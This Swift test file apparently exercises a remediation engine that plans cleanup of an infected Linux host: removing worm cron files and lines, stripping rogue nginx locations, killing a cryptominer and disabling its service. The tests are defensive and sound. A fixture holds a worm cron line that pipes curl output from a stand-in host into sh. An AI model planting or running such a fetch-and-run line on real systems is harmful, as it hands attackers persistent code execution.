import Foundation
import ScourCore
@testable import ScourEngine
import ScourHost
import ScourSyntax
import Testing

/// Steps see each other: each step is planned on the host as the earlier steps leave it
/// (`HostModel`, each kind's projection), from hand-built observations.
@Suite struct HostModelTests {
    static let playbookText = """
        playbook "m" {
          platform = linux
          remove_files "cron_file" {
            paths = ['/etc/cron.d/apache2-update']
          }
          remove_lines "cron_lines" {
            paths       = ['/etc/cron.d/*']
            max_matches = 10
            pattern     = 'pool\\.invalid'
          }
          strip_mappings "mappings" {
            server  = nginx
            config  = '/etc/nginx/site'
            aliases = ["/uploads/"]
          }
          remove_lines "site_lines" {
            paths   = ['/etc/nginx/site']
            pattern = 'evil'
          }
          kill_process "miner" {
            name        = "kworkerds"
            max_matches = 2
          }
          remove_files "miner_exe" {
            paths = ['/opt/kworkerds']
          }
          disable_service "unit" {
            service = "kworker.service"
          }
          disable_service "unit_again" {
            service = "kworker.service"
          }
          run "reload" {
            command = "true"
          }
          reboot "clear_memory" {
          }
        }
        """

    static let site = "server {\n\tlocation / { evil; }\n\tlocation /uploads/ { autoindex on; }\n\troot /var/www; # evil too\n}\n"
    static let cronGlob = ProbeItem.globContents(pattern: "/etc/cron.d/*", maxMatches: 10, limit: ProbeItem.defaultContentLimit)
    static let miner = ProbeItem.processes(name: "kworkerds", executable: nil, commandLine: nil, maxMatches: 2)

    let playbook: Playbook

    init() throws {
        let loaded = LoadedPlaybook.analyze(SourceFile(path: "/tmp/m.scour", text: Self.playbookText), purpose: .execute)
        playbook = try #require(loaded.playbook, "\(loaded.diagnostics)")
    }

    private var decider: StepDecider { StepDecider(playbook: playbook, params: [:], hostVariables: [:], patchSizes: [:]) }

    private func plan(_ observation: HostObservation) -> HostPlan {
        var plan = HostPlan(name: "h1", address: "10.0.0.1", status: .planned)
        decider.plan(observation, into: &plan)
        return plan
    }

    private static func file(_ text: String) -> FileObservation {
        FileObservation(kind: .regular, stat: FileStat(size: UInt64(text.utf8.count), mode: "644", uid: 0, gid: 0, mtime: 0, owner: "root", group: "root"),
                        sha256: SHA256.hex(of: Array(text.utf8)))
    }

    private static func cronMatch(_ path: String, _ text: String) -> GlobContentsMatch {
        GlobContentsMatch(path: path, file: file(text), content: ContentObservation(kind: .regular, bytes: Data(text.utf8)))
    }

    private static func process(_ pid: Int32) -> ProcessObservation {
        ProcessObservation(pid: pid, start: "100\(pid)", uid: 0, user: "root", name: "kworkerds", executable: "/opt/kworkerds", executableDeleted: false,
                           executableSize: 8, executableSHA256: String(repeating: "b", count: 64), commandLine: "kworkerds", commandLineIsCut: false)
    }

    /// An infected host: a cron file of the worm's own and a line in another, a site with a
    /// rogue location and a rogue line, the miner running from /opt, its unit enabled.
    static var infected: HostObservation {
        var observation = HostObservation()
        let worm = "* * * * * root curl pool.invalid | sh\n", other = "MAILTO=root\n*/5 * * * * root /opt/x pool.invalid\n"
        observation.files["/etc/cron.d/apache2-update"] = file(worm)
        observation.globContents[cronGlob.observationKey] = GlobContentsObservation(
            total: 2, matches: [cronMatch("/etc/cron.d/apache2-update", worm), cronMatch("/etc/cron.d/other", other)])
        observation.files["/etc/nginx/site"] = file(site)
        observation.contents["/etc/nginx/site"] = ContentObservation(kind: .regular, bytes: Data(site.utf8))
        observation.processLists[miner.observationKey] = ProcessListObservation(total: 2, processes: [process(41), process(42)])
        observation.files["/opt/kworkerds"] = file("ELF....")
        observation.services["kworker.service"] = ServiceObservation(manager: "systemd", activeState: "active", enabledState: "enabled")
        return observation
    }

    private func step(_ plan: HostPlan, _ name: String) throws -> StepPlan { try #require(plan.steps.first { $0.name == name }) }

    @Test func a_file_quarantined_first_is_not_edited_by_a_later_step_over_its_folder() throws {
        let plan = plan(Self.infected)
        #expect(try step(plan, "cron_file").changes.map(\.path) == ["/etc/cron.d/apache2-update"])
        let lines = try step(plan, "cron_lines")
        #expect(lines.action == .change)
        #expect(lines.changes.map(\.path) == ["/etc/cron.d/other"], "the quarantined file is gone for the later step: \(lines.changes)")
        #expect(lines.reason == "1 line to remove from 1 file")
    }

    @Test func a_second_edit_of_a_config_is_diffed_against_the_first_ones_output() throws {
        let plan = plan(Self.infected)
        let stripped = try step(plan, "mappings")
        #expect(stripped.action == .change)
        #expect(stripped.changes.first?.sha256 == SHA256.hex(of: Array("server {\n\tlocation / { evil; }\n\troot /var/www; # evil too\n}\n".utf8)))
        let lines = try step(plan, "site_lines")
        let change = try #require(lines.changes.first)
        #expect(change.diff?.contains("/uploads/") == false, "the diff is against the stripped config:\n\(change.diff ?? "")")
        #expect(change.diff?.contains("-\tlocation / { evil; }") == true)
        #expect(lines.reason == "2 lines to remove from 1 file")
        #expect(change.sha256 == SHA256.hex(of: Array("server {\n}\n".utf8)))
    }

    @Test func killed_processes_are_gone_and_a_disabled_service_is_disabled_for_later_steps() throws {
        var model = HostModel(decider: decider, observation: Self.infected, context: decider.context(detections: []))
        for step in playbook.steps.prefix(5) { model.advance(step, by: model.decide(step)) }
        #expect(model.observation.processLists[Self.miner.observationKey] == ProcessListObservation(total: 0, processes: []))
        let plan = plan(Self.infected)
        #expect(try step(plan, "miner_exe").action == .change, "the executable is removed after the kill")
        #expect(try step(plan, "unit").changes.map(\.kind) == [.stopService, .disableService])
        let again = try step(plan, "unit_again")
        #expect(again.action == .ok && again.reason == "kworker.service is already stopped and disabled")
    }

    @Test func what_the_model_cannot_settle_is_noted_with_what_later_steps_assume() throws {
        let plan = plan(Self.infected)
        #expect(try step(plan, "reload").note == "a command's effect is unknown: later steps assume the host as observed before it")
        #expect(try step(plan, "clear_memory").note == nil, "the last step leaves nothing to assume")
        #expect(try step(plan, "cron_file").note == nil, "a quarantine is modelled exactly")
        let json = String(decoding: try JSONEncoder().encode(try step(plan, "reload")), as: UTF8.self)
        #expect(json.contains(#""note":"a command's effect is unknown"#))
        #expect(!String(decoding: try JSONEncoder().encode(try step(plan, "cron_file")), as: UTF8.self).contains("note"))
    }

    @Test func a_removed_path_leaves_every_glob_that_listed_or_counted_it() {
        var observation = HostObservation()
        let listed = GlobMatch(path: "/srv/a.php", file: Self.file("a"))
        observation.globs["/srv/*.php"] = GlobObservation(total: 5, matches: [listed, GlobMatch(path: "/srv/b.php", file: Self.file("b"))])
        observation.globs["/srv/*.txt"] = GlobObservation(total: 1, matches: [GlobMatch(path: "/srv/c.txt", file: Self.file("c"))])
        let search = ProbeItem.contentGlob(pattern: "/srv/*.php", regex: "eval", maxMatches: 10, lineLimit: 512)
        observation.contentGlobs[search.observationKey] = ContentGlobObservation(
            total: 3, searched: 3, matches: [LineMatch(path: "/srv/a.php", line: 2, text: "eval($x)", textIsCut: false)])
        observation.contents["/srv/a.php"] = ContentObservation(kind: .regular, bytes: Data("a".utf8))
        observation.projectRemoval(of: "/srv/a.php")
        observation.projectRemoval(of: "/srv/z.php")  // counted by the truncated listing, not listed
        #expect(observation.globs["/srv/*.php"] == GlobObservation(total: 3, matches: [GlobMatch(path: "/srv/b.php", file: Self.file("b"))]))
        #expect(observation.globs["/srv/*.txt"]?.total == 1, "a glob the path does not match is untouched")
        #expect(observation.contentGlobs[search.observationKey] == ContentGlobObservation(total: 1, searched: 1, matches: []))
        #expect(observation.contents["/srv/a.php"] == ContentObservation(kind: .absent))
        #expect(observation.files["/srv/a.php"] == nil, "a path never asked stays unasked")
    }

    @Test func an_edited_file_has_its_new_bytes_hash_and_first_matching_line_everywhere() {
        var observation = HostObservation()
        let old = "ok\nevil one\nevil two\n", new = "ok\nevil two\n"
        observation.files["/etc/x"] = Self.file(old)
        observation.contents["/etc/x"] = ContentObservation(kind: .regular, bytes: Data(old.utf8))
        let search = ProbeItem.contentGlob(pattern: "/etc/*", regex: "evil", maxMatches: 10, lineLimit: 4)
        observation.contentGlobs[search.observationKey] = ContentGlobObservation(
            total: 1, searched: 1, matches: [LineMatch(path: "/etc/x", line: 2, text: "evil", textIsCut: true)])
        observation.projectEdit(of: "/etc/x", to: Array(new.utf8))
        #expect(observation.files["/etc/x"] == Self.file(new))
        #expect(observation.contents["/etc/x"]?.bytes == Data(new.utf8))
        #expect(observation.contentGlobs[search.observationKey]?.matches == [LineMatch(path: "/etc/x", line: 2, text: "evil", textIsCut: true)])
        observation.projectEdit(of: "/etc/x", to: Array("ok\n".utf8))
        #expect(observation.contentGlobs[search.observationKey]?.matches == [], "no line matches any more")
    }

    @Test func a_drifted_steps_items_are_named_in_the_words_of_a_drift() {
        var now = Self.infected
        now.files["/opt/kworkerds"] = Self.file("ELF.... patched")
        let items: [ProbeItem] = [.file(path: "/opt/kworkerds")]
        let words = now.restricted(to: items).drift(from: Self.infected.restricted(to: items))
        #expect(words.count == 1 && words[0].hasPrefix("file /opt/kworkerds: regular 7 bytes"), "\(words)")
    }
}
